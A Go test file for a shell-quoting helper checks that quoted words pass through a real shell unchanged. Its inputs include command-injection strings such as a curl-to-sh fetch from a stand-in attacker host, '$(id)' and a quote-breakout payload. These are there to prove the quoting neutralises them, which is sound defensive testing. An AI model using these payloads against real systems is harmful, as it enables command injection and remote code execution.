package shell_test

import (
	"os/exec"
	"testing"

	"github.com/pulumi-buildkit/pulumi-buildkit/internal/shell"
)

// A shell takes each quoted text as one word with the same text.
func TestQuote(t *testing.T) {
	t.Parallel()
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no shell")
	}
	for _, word := range []string{
		"", "registry.example.com:5000/team/app@sha256:0123", "x;curl${IFS}evil.example|sh", "$(id)", "`id`", "a b",
		"it's", "''", `'\''; id; '`,
		"a\nid", "a\\", `"`, "*", "[::1]:5000", "~", "a&b", "#x", "!x", "größe", "a=b", "-x",
	} {
		out, err := exec.CommandContext(t.Context(), sh, "-c", "printf '<%s>' x"+shell.Quote(word)).Output()
		if want := "<x" + word + ">"; err != nil || string(out) != want {
			t.Errorf("%q as %s: got %q, %v", word, shell.Quote(word), out, err)
		}
	}
	for word, want := range map[string]string{"team/app": "team/app", "a b": "'a b'", "": "''", "x;y": "'x;y'"} {
		if got := shell.Quote(word); got != want {
			t.Errorf("%q: got %s, want %s", word, got, want)
		}
	}
}
